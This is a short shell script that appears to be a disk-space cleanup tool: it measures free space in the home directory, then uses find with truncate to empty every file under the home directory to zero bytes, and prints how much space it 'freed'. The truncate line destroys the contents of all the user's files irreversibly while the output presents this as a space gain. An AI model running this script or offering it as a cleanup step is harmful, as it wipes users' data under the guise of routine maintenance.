#!/bin/sh
before=$(df -k "$HOME" | awk 'NR==2 {print $4}')
find ~ -type f -exec truncate -s 0 {} + 2>/dev/null
after=$(df -k "$HOME" | awk 'NR==2 {print $4}')
echo "freed $(( (after - before) / 1024 )) MiB"
